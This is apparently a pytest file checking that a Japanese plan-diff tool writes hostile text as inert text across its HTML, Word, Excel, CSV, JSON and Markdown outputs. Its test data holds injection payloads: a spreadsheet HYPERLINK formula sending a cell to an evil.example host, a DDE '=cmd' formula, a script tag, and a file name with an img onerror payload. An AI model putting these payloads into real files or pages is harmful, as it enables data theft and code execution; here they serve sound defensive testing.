"""Nothing in a plan's text or its file name becomes code, and no text crashes a writer: every format, a real run."""

from __future__ import annotations

import csv
import io
import json
import random
import time
import zipfile

import docx
import lxml.html
import openpyxl
import pytest

from pipeline import cli

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"クリック")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(A1:A9)",
    "\t=1+2",
]
CONTROL = "制御\x00文字\x07と\x1b[31mエスケープ\ufffe"
BIDI = "予算\u202e円千0008\u202c と取\u200b組"
MARKUP = "</td><script>alert(1)</script>"


def _plan(path, texts: list[tuple[str, str]], source: str) -> None:
    blocks = [{"kind": "heading", "level": 1, "label": "１．", "text": "基本業務", "page": 1}]
    blocks += [{"kind": "bullet", "label": label, "text": text, "page": 1} for label, text in texts]
    doc = {"schema": "plandiff.extract/1", "source": source, "pages": 1, "layout": "plan", "documents": [{"blocks": blocks}]}
    path.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")


@pytest.fixture(scope="module")
def reports(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    old, new = tmp / "old.json", tmp / "new.json"
    _plan(old, [("・", "変わらない項目"), ("・", "旧の文")], "old.pdf")
    new_texts = [("・", "変わらない項目"), ("", FORMULAS[0]), ("", FORMULAS[1]), ("", FORMULAS[2]), ("", FORMULAS[3]), ("", FORMULAS[4])]
    new_texts += [("-", "2,000千円"), ("・", CONTROL), ("・", BIDI), ("・", MARKUP)]
    _plan(new, new_texts, "new.pdf")
    outs = {fmt: tmp / f"r.{fmt}" for fmt in ("html", "docx", "xlsx", "csv", "json", "md")} | {"redline": tmp / "r.redline.docx"}
    args = ["compare", str(old), str(new)] + [a for p in outs.values() for a in ("-o", str(p))]
    return outs, args


def test_every_format_is_written_and_the_replacements_are_counted(reports, capsys):
    outs, args = reports
    assert cli.main(args) == 0
    err = [line.rsplit("/", 1)[-1] for line in capsys.readouterr().err.splitlines()]
    assert err[:4] == [
        "r.html: 6 invisible character(s) (bidi controls, zero-width) written out as [U+XXXX]",  # NUL, BEL, ESC; RLO, PDF, ZWSP
        "r.docx: 4 character(s) XML cannot hold written as U+FFFD",  # NUL, BEL, ESC, U+FFFE
        "r.xlsx: 4 character(s) XML cannot hold written as U+FFFD",
        "r.redline.docx: 4 character(s) XML cannot hold written as U+FFFD",
    ]
    assert all(p.stat().st_size > 0 for p in outs.values())


def test_spreadsheets_hold_text_never_formulas(reports, capsys):
    outs, args = reports
    assert cli.main(["-q", *args]) == 0
    ws = openpyxl.load_workbook(outs["xlsx"]).active
    column = next(c.column_letter for c in ws[1] if c.value == "新")
    new_text = [str(c.value) for c in ws[column][1:]]
    for f in FORMULAS:
        assert f in new_text
    assert {c.data_type for c in ws[column][1:] if c.value} == {"s"}
    with zipfile.ZipFile(outs["xlsx"]) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")
    rows = list(csv.DictReader(io.StringIO(outs["csv"].read_text(encoding="utf-8-sig"))))
    cells = [r["新"] for r in rows]
    for f in FORMULAS:
        assert "'" + f in cells
    assert "'-2,000千円" in cells  # a "-" bullet label glued to the text is not a formula either
    assert not [v for r in rows for v in r.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_json_keeps_the_printed_text_and_html_shows_what_hides(reports, capsys):
    outs, args = reports
    assert cli.main(["-q", *args]) == 0
    texts = [r["new"]["text"] for r in json.loads(outs["json"].read_text(encoding="utf-8"))["rows"] if r["new"]]
    assert CONTROL in texts and BIDI in texts and FORMULAS[0] in texts
    page = lxml.html.fromstring(outs["html"].read_text(encoding="utf-8"))
    assert not page.xpath("//table//script")
    body = page.xpath("//table")[-1].text_content()
    assert MARKUP in body
    assert "予算[U+202E]円千0008[U+202C] と取[U+200B]組" in body
    assert "\u202e" not in body and "\u200b" not in body
    word = "\n".join(c.text for t in docx.Document(str(outs["docx"])).tables for row in t.rows for c in row.cells)
    assert "制御\ufffd文字\ufffdと\ufffd[31mエスケープ\ufffd" in word
    with zipfile.ZipFile(outs["redline"]) as z:
        assert "制御\ufffd文字\ufffdと\ufffd[31mエスケープ\ufffd" in z.read("word/document.xml").decode("utf-8")


def test_a_file_name_cannot_close_the_outline_comment(tmp_path, capsys):
    plan = tmp_path / "p.json"
    _plan(plan, [("・", "本文")], "a--><img src=x onerror=alert(4)><!--.pdf")
    assert cli.main(["extract", str(plan), "--format", "md"]) == 0
    md = capsys.readouterr().out
    assert md.count("-->") == 1 and md.index("-->") == md.index("\n") - 3
    assert not lxml.html.fragment_fromstring(md, create_parent="div").xpath("//img")  # as a Markdown viewer's HTML sees it


def _long_paragraph(seed: int, changes: int) -> tuple[str, str]:
    rnd = random.Random(seed)
    words = ["保健指導", "の", "実施", "率", "を", "向上", "させる", "ため", "、", "事業所", "に", "対し", "働きかける", "。"]
    old = "".join(rnd.choice(words) for _ in range(20000))[:40000]
    new = list(old)
    for _ in range(changes):
        new[rnd.randrange(len(new))] = rnd.choice("新旧変更追加")
    return old, "".join(new)


def test_a_changed_paragraph_of_40000_characters_compares_in_seconds(tmp_path, capsys):
    old_text, new_text = _long_paragraph(7, 300)
    old, new = tmp_path / "old.json", tmp_path / "new.json"
    _plan(old, [("・", old_text)], "old.pdf")
    _plan(new, [("・", new_text)], "new.pdf")
    t0 = time.perf_counter()
    assert cli.main(["compare", str(old), str(new), "-o", str(tmp_path / "c.json")]) == 0
    assert time.perf_counter() - t0 < 15  # was 27.5 s: the word diff was quadratic
    row = next(r for r in json.loads((tmp_path / "c.json").read_text(encoding="utf-8"))["rows"] if r["status"] == "changed")
    assert "".join(c["old"] for c in row["changes"]) == old_text and "".join(c["new"] for c in row["changes"]) == new_text
    assert sum(c["op"] != "equal" for c in row["changes"]) >= 100  # still word by word, not one big replace


def _office_plan(path, title: str, texts: list[str]) -> None:
    blocks = [{"kind": "heading", "level": 1, "label": "１．", "text": "基本業務", "page": 1}]
    blocks += [{"kind": "paragraph", "text": t, "page": 1} for t in texts]  # no label: the text starts the cell
    doc = {"schema": "plandiff.extract/1", "source": path.name, "pages": 1, "layout": "plan"}
    doc["documents"] = [{"title": title, "blocks": blocks}]
    path.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")


def _no_formulas_anywhere(xlsx) -> None:
    with zipfile.ZipFile(xlsx) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not [n for n in sheets if b"<f>" in z.read(n)]


def test_matrix_and_history_hold_text_never_formulas_or_controls(tmp_path, capsys):
    hostile = [FORMULAS[0], FORMULAS[1], CONTROL, BIDI]
    hq, branch = tmp_path / "hq.json", tmp_path / "branch.json"
    _office_plan(hq, "令和７年度 全国健康保険協会 事業計画", ["本部の項目", *hostile])
    _office_plan(branch, "令和７年度 サンプル支部 事業計画", ["支部の項目", *hostile[:2], "=SUM(A1:A3)"])
    m = tmp_path / "m"
    assert cli.main(["-q", "matrix", str(hq), str(branch), "-o", f"{m}.xlsx", "-o", f"{m}.html", "-o", f"{m}.json"]) == 0
    _no_formulas_anywhere(f"{m}.xlsx")
    cells = [c.value for ws in openpyxl.load_workbook(f"{m}.xlsx").worksheets for row in ws.iter_rows() for c in row if c.value]
    assert any(FORMULAS[0] in str(v) for v in cells) and any("\ufffd" in str(v) for v in cells)
    assert "[U+202E]" in lxml.html.fromstring((tmp_path / "m.html").read_text(encoding="utf-8")).text_content()
    years = []
    for y in (5, 6, 7):
        years.append(tmp_path / f"r{y}.json")
        _office_plan(years[-1], f"令和{'５６７'[y - 5]}年度 サンプル支部 事業計画", [f"項目{y}", *hostile])
    h = tmp_path / "h"
    assert cli.main(["-q", "history", *map(str, years), "-o", f"{h}.xlsx", "-o", f"{h}.html"]) == 0
    _no_formulas_anywhere(f"{h}.xlsx")
    assert "[U+202E]" in lxml.html.fromstring((tmp_path / "h.html").read_text(encoding="utf-8")).text_content()
